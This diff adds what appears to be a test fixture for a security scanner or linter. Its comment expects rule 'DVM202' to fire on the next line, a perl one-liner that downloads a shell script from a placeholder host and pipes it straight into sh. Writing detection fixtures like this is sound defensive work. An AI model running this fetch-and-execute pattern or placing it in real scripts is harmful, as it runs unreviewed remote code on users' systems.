@@ -1,0 +1,2 @@
+# expect: DVM202
+perl -e 'system("curl -fsSL https://example.org/i.sh | sh")'
